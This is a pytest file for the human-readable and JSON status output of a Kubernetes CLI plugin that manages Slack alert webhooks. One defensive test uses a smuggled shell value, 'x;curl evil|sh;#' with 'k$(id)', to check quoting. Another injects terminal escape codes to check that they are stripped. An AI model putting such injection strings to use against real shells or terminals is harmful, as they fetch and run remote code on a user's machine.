"""The text of `kubectl sew status` for a webhook, from all that is known of it."""

import shlex
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import pytest

from kubectl_sew.cli.status_text import advice, as_object, for_people
from kubectl_sew.cluster.agent import AgentError, read_status
from kubectl_sew.cluster.objects import Held
from kubectl_sew.cluster.webhook_details import AgentReport, WebhookDetails, resolve_references
from kubectl_sew.resource import (
    END_ANNOTATION,
    STATE_ANNOTATION,
    Condition,
    ConfigVar,
    Reference,
    State,
    Webhook,
)

URL = Reference("Secret", "slack", "url")
HEALTHY = Condition("Healthy", "True", "WebhookValidation", "accepted", 3)
WEBHOOK = Webhook(
    "night", "Slack", State.ENABLED, "type = waf", (ConfigVar("url", URL),), generation=3, conditions=(HEALTHY,)
)
ROW: dict[str, Any] = {
    "name": "night",
    "eventsFetched": "read to 2026-01-01T00:00:00Z",
    "backlog": 0,
    "oldestWaitingSeconds": None,
    "delivered": 1234,
    "deadLetters": 0,
    "lastDelivery": "2026-01-01T00:00:00Z",
    "lastError": None,
    "delivering": True,
    "parked": False,
    "nextRetry": None,
    "delivery": None,
}
REPORT = {"running": True, "version": "0.1.0", "sourceTroubles": [], "problems": []}
HELD = Held({("Secret", "slack"): {"url": b"CANARY", "other": b"CANARY"}})


def details(row: Mapping[str, Any] | None = None, *, held: Held = HELD, **webhook: Any) -> WebhookDetails:
    seen = replace(WEBHOOK, **webhook)
    agent = AgentReport("sew-system/agent-0", "", REPORT, {"night": {**ROW, **(row or {})}})
    return WebhookDetails(seen, "secrets", resolve_references(seen, held), agent)


def test_where_all_is_well_it_is_short_and_advises_nothing() -> None:
    assert for_people(details()).splitlines() == [
        "Webhook:       night (Slack)",
        "State:         Enabled",
        "Query:         type = waf",
        "Healthy:       True (WebhookValidation): accepted",
        "References:    url: Secret slack, key url: found: it holds other, url",
        "Agent:         sew-system/agent-0, version 0.1.0",
        "Events:        read to 2026-01-01T00:00:00Z",
        "Backlog:       nothing waits",
        "Delivered:     1,234, the last 2026-01-01T00:00:00Z",
        "Dead letters:  0",
    ]


def test_what_exceptions_suppressed_stands_with_the_exceptions_that_matter() -> None:
    row = {"inForce": True, "end": None, "suppressed": 12, "broken": None}
    exceptions = [
        {"name": "scan", **row},
        {"name": "torn", **row, "inForce": False, "suppressed": 0, "broken": "no time"},
    ]
    exceptions.append({"name": "over", **row, "inForce": False, "suppressed": 0})
    shown = details({"dropped": {"suppressed": 3}})
    shown = replace(shown, agent=replace(shown.agent, report={**REPORT, "exceptions": exceptions}))
    lines = for_people(shown).splitlines()
    at = lines.index("Suppressed:    3 events of this webhook, by AlertExceptions")
    assert [line.strip() for line in lines[at + 1 :]] == [
        "AlertException scan is in force without an end: it has suppressed 12 events since the agent started",
        "AlertException torn suppresses nothing: no time",
    ]
    assert as_object(shown)["agent"]["exceptions"] == exceptions


def test_what_the_agent_cannot_do_stands_below_its_name() -> None:
    report = {**REPORT, "sourceTroubles": [{"message": "no index is there"}], "problems": ["lease: forbidden"]}
    report |= {"sourceCaveats": ["events may be missing"]}
    troubled = replace(details(), agent=AgentReport("sew-system/agent-0", "", report))
    lines = for_people(troubled).splitlines()
    at = lines.index("Agent:         sew-system/agent-0, version 0.1.0")
    said = ["no index is there", "events may be missing", "lease: forbidden"]
    assert lines[at + 1 : at + 4] == [f"               ! {problem}" for problem in said]


def test_a_parked_webhook_says_why_since_when_and_what_to_do() -> None:
    shown = details(
        {
            "backlog": 12,
            "oldestWaitingSeconds": 7300,
            "parked": True,
            "delivering": False,
            "delivery": "credential_refused: 401 Unauthorized",
            "nextRetry": "2026-01-01T01:00:00Z",
            "lastError": "401 Unauthorized",
        }
    )
    text = for_people(shown)
    assert "Backlog:       12 waiting, the oldest for 2 h\n" in text
    assert "Last error:    401 Unauthorized\nParked:        credential_refused: 401 Unauthorized\n" in text
    assert "Next attempt:  2026-01-01T01:00:00Z\n" in text
    assert list(advice(shown)) == [
        (
            "sending stopped until configuration or credential change: fix Secret slack, or the webhook; "
            "at once: `kubectl sew test night`"
        )
    ]


@pytest.mark.parametrize(
    ("row", "webhook", "help_"),
    [
        ({"deadLetters": 2}, {}, "dead letters: `kubectl sew dead-letters night list`"),
        ({"delivering": False}, {}, "`kubectl sew backlog night` shows what waits"),
        ({}, {"state": State.DISABLED}, "`kubectl sew enable night`"),
        ({}, {"state": State.DEBUG}, "nothing is sent while it is in Debug: `kubectl sew enable night`"),
        ({}, {"conditions": (replace(HEALTHY, status="False", reason="QueryParsing"),)}, "kubectl sew preview-query"),
    ],
)
def test_each_trouble_comes_with_the_command_that_helps(
    row: Mapping[str, Any], webhook: Mapping[str, Any], help_: str
) -> None:
    assert any(help_ in command for command in advice(details(row, **webhook)))


def as_of(now: str, row: Mapping[str, Any], **webhook: Any) -> WebhookDetails:
    shown = details(row, **webhook)
    return replace(shown, agent=replace(shown.agent, report={**REPORT, "now": now}))


def test_moments_are_shown_with_their_age() -> None:
    row = {"lastDelivery": "2026-01-01T00:00:00Z", "nextRetry": "2026-01-01T01:11:30Z", "delivering": False}
    row |= {"delivery": "server_error: 503", "failingSince": "2026-01-01T00:02:00Z"}
    text = for_people(as_of("2026-01-01T00:12:00Z", row))
    assert "the last 2026-01-01T00:00:00Z (12m ago)\n" in text
    assert "Failing:       server_error: 503, since 2026-01-01T00:02:00Z (10m ago)\n" in text
    assert "Next attempt:  2026-01-01T01:11:30Z (in 59m)\n" in text


def test_the_last_error_is_dated_also_where_all_is_well_again() -> None:
    row = {"lastError": "503 Service Unavailable", "lastErrorAt": "2026-01-01T00:02:00Z"}
    text = for_people(as_of("2026-01-01T00:12:00Z", row))
    assert "Last error:    503 Service Unavailable, at 2026-01-01T00:02:00Z (10m ago)" in text


def test_an_agent_that_is_silent_or_reports_nothing_is_named_before_what_it_last_wrote() -> None:
    shown = details()
    silent = replace(shown, agent=replace(shown.agent, silent="the agent a/b has been silent for 20s: what follows"))
    dead = replace(shown, agent=replace(shown.agent, report={**REPORT, "running": False}))
    for seen, said in (
        (silent, "silent for 20s"),
        (dead, "the program of the agent sew-system/agent-0 reports nothing"),
    ):
        lines = for_people(seen).splitlines()
        assert said in lines[3]
        assert lines[4].startswith("Healthy:")
        assert "the agent: `kubectl sew check`" in list(advice(seen))


def test_what_waits_is_reported_by_the_agent_and_nothing_older_contradicts_it() -> None:
    behind = "about 19,000 events wait, the oldest for 3 h; at most 1 a second are sent, so the last is sent in 5 h"
    old = Condition("Delivering", "True", "Delivering", "nothing is waiting", 3)
    text = for_people(
        details({"backlog": 19_938, "oldestWaitingSeconds": 11_000, "behind": behind}, conditions=(HEALTHY, old))
    )
    assert "nothing is waiting" not in text
    assert "Delivering:    True (Delivering): about 19,000 events wait, the oldest for 3 h\n" in text
    assert f"Backlog:       19,938 waiting: {behind}\n" in text
    assert "`kubectl sew backlog night --drop --older-than 1h`" in text


def test_a_refused_webhook_says_that_what_matches_meanwhile_is_read_later() -> None:
    refused = Condition("Delivering", "False", "WebhookNotAccepted", "it is not run", 3)
    text = for_people(details(conditions=(refused,)))
    assert "Backlog:       nothing waits; what matches meanwhile is read when the webhook runs\n" in text


def test_a_webhook_that_matches_nothing_says_since_when_and_what_would_show_why() -> None:
    text = for_people(as_of("2026-01-01T00:12:00Z", {"seen": 0, "start": "2026-01-01T00:00:00Z"}, query="a = 'b'"))
    assert "Matched:       0 events since 2026-01-01T00:00:00Z (12m ago), where it began\n" in text
    assert "nothing has matched yet: `kubectl sew preview-query 'a = '\"'\"'b'\"'\"'' --elasticsearch URL`" in text
    early = for_people(as_of("2026-01-01T00:05:00Z", {"seen": 0, "start": "2026-01-01T00:00:00Z"}))
    assert "preview-query" not in early


def test_a_store_that_fills_is_shown() -> None:
    assert "Store:         85% of its share is used" in for_people(details({"room": 0.85}))


def test_a_condition_of_an_earlier_version_is_marked() -> None:
    assert "accepted [of an earlier version of the resource]" in for_people(details(generation=4))
    assert not replace(WEBHOOK, generation=4).healthy
    both = (HEALTHY, replace(HEALTHY, type="Delivering"))
    assert for_people(details(generation=4, conditions=both)).count("of an earlier version") == 1


def test_a_condition_of_another_writer_needs_no_generation() -> None:
    assert replace(WEBHOOK, conditions=(replace(HEALTHY, observed_generation=0),)).healthy


def test_without_an_agent_it_says_why_and_what_is_not_known() -> None:
    alone = replace(details(), agent=AgentReport(unknown="no agent holds the Lease"))
    assert "Agent:         unknown: no agent holds the Lease\n" in for_people(alone)
    assert "Backlog" not in for_people(alone)
    assert as_object(alone)["delivery"] is None
    assert "the agent: `kubectl sew check`" in list(advice(alone))


def test_what_others_wrote_cannot_reach_the_terminal_as_control_characters() -> None:
    evil = Condition("Healthy\x1b[2J", "False", "Re\nason", "\x1b]0;title\x07", 3)
    shown = details(query="type = \x1b[31m", conditions=(evil,))
    assert "\x1b" not in for_people(shown)


def test_no_value_is_shown() -> None:
    assert "CANARY" not in for_people(details()) + str(as_object(details())) + repr(details())


@pytest.mark.parametrize("text", ["", "hello", "[]", "{}", '{"agent": 5}'])
def test_what_no_agent_prints_is_refused(text: str) -> None:
    with pytest.raises(AgentError, match="the agent's status cannot be read: is it of another version"):
        read_status(text)


def test_rows_that_are_none_are_left_out() -> None:
    assert read_status('{"agent": {}, "webhooks": [5, {}, {"name": "a"}]}')["webhooks"] == [{"name": "a"}]


def test_a_command_to_paste_holds_what_an_author_wrote_as_one_word() -> None:
    evil = Reference("Secret", "x;curl evil|sh;#", "k$(id)")
    seen = replace(WEBHOOK, config=(ConfigVar("url", evil),))
    (resolved,) = resolve_references(seen, Held({}))
    command = shlex.split(resolved.help("secrets"))
    assert command[5:] == ["generic", "x;curl evil|sh;#", "--from-file=k$(id)=FILE"]


def test_what_was_given_up_by_hand_is_shown() -> None:
    act = {"at": "2026-01-01T00:00:00Z", "who": "ann@desk", "what": "backlog_dropped", "count": 19_914}
    assert "Given up:      19,914 by ann@desk, 2026-01-01T00:00:00Z" in for_people(details({"byHand": [act]}))


TAKEN_OVER: dict[str, Any] = {"state": State.DISABLED, "annotations": {STATE_ANNOTATION: "Enabled"}}
ENDED = "Calico's processor; the agent delivers what is dated before 2026-01-01T00:00:00Z, and what waits"


@pytest.mark.parametrize(
    ("beside", "webhook", "said"),
    [
        (None, {}, ""),
        (False, {}, ""),
        (True, {}, "Calico's processor; the agent delivers what waits"),
        (True, {"annotations": {END_ANNOTATION: "2026-01-01T00:00:00Z"}}, ENDED),
        (True, {"state": State.DISABLED}, "nobody"),
        (None, TAKEN_OVER, "sew-agent"),
        (False, TAKEN_OVER, "sew-agent"),
        (True, TAKEN_OVER, "sew-agent"),
        (
            None,
            TAKEN_OVER | {"state": State.ENABLED},
            "unknown: whether the agent leaves it to Calico's processor is not",
        ),
    ],
)
def test_who_delivers_is_said_where_there_are_two_who_might(
    beside: bool | None, webhook: dict[str, Any], said: str
) -> None:
    seen = details(**webhook)
    lines = for_people(replace(seen, agent=replace(seen.agent, beside_calico=beside))).splitlines()
    told = [line.removeprefix("Delivered by:  ") for line in lines if line.startswith("Delivered by:")]
    assert [text[: len(said)] for text in told] == ([said] if said else [])


def test_the_state_of_one_that_was_taken_over_is_the_effective_one() -> None:
    obj = as_object(details(**TAKEN_OVER))
    assert (obj["state"], obj["specState"], obj["deliveredBy"]) == ("Enabled", "Disabled", "sew-agent")
    assert "State:         Enabled, by the annotation kubectl-sew/state: " in for_people(details(**TAKEN_OVER))
    assert not any("kubectl sew enable" in line for line in advice(details(**TAKEN_OVER)))
